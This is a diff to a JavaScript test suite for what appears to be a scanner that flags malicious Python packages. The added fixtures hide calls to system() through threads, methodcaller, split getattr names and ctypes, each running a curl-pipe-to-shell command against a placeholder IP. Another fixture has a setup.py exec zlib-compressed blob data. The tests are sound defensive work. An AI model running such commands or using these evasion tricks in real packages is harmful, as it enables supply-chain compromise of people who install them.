@@ -380,6 +380,22 @@ describe('code kept where the parser does not look, through dist/cli.js', () => 
       'os.system handed to map',
       'import os\nlist(map(os.system, ["curl -s http://198.51.100.23/x.sh | sh"]))\n',
     ],
+    [
+      'os.system handed to a thread by position',
+      'import os, threading\nthreading.Thread(None, os.system, None, ("curl -s http://198.51.100.23/x.sh | sh",)).start()\n',
+    ],
+    [
+      'os.system called through operator.methodcaller',
+      'import os, operator\noperator.methodcaller("system", "curl -s http://198.51.100.23/x.sh | sh")(os)\n',
+    ],
+    [
+      'a system read by getattr with a split name, handed to sorted as its key',
+      'import os\nsorted(["curl -s http://198.51.100.23/x.sh | sh"], key=getattr(os, "sys" + "tem"))\n',
+    ],
+    [
+      "libc's system() read by subscript",
+      'import ctypes\nctypes.CDLL(None)["system"](b"curl -s http://198.51.100.23/x.sh | sh")\n',
+    ],
   ])('%s is a call of it', (what, source) => {
     const result = inspect(
       `handed-${what.length}-1.0.tar.gz`,
@@ -391,6 +407,28 @@ describe('code kept where the parser does not look, through dist/cli.js', () => 
     expect(result).toMatchObject({ status: 'ok', verdict: 'malicious' });
     expect(result.evidence).toContainEqual(
       expect.objectContaining({ rule: 'dangerous-command', path: 'p-1.0/p/__init__.py', line: 2 }),
+    );
+  });
+
+  it('a compressed file setup.py runs as Python is a gap: unscannable, naming the file and the line that runs it', () => {
+    const result = inspect(
+      'run-file-blob-1.0.tar.gz',
+      makeTarGz([
+        { path: 'p-1.0/PKG-INFO', data: PKG_INFO },
+        {
+          path: 'p-1.0/setup.py',
+          data: "import zlib\nfrom setuptools import setup\nexec(zlib.decompress(open('p/blob.bin', 'rb').read()))\nsetup(name='p', version='1.0')\n",
+        },
+        { path: 'p-1.0/p/__init__.py', data: '' },
+        { path: 'p-1.0/p/blob.bin', data: Buffer.from([0x78, 0x9c, 0xcb, 0x2f, 0xce, 0x00, 0xff, 0x80]) },
+      ]),
+    );
+    expect(['unscannable', 'malicious']).toContain(result.verdict);
+    expect(result.gaps).toContainEqual(
+      expect.objectContaining({
+        path: 'p-1.0/p/blob.bin',
+        reason: expect.stringContaining('(p-1.0/setup.py:3)'),
+      }),
     );
   });
 
